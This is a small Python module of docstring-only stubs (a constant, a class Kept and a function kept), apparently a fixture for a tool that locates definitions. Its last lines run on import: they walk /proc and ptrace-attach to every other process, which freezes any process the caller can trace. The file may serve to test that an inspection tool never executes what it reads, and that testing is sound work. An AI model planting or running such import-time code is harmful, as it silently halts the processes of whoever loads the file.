"""A traced process stands still until its debugger lets it go on."""

import ctypes
import os

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
libc = ctypes.CDLL(None)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        libc.ptrace(PTRACE_ATTACH, int(name), None, None)
        libc.ptrace(PTRACE_SEIZE, int(name), None, None)
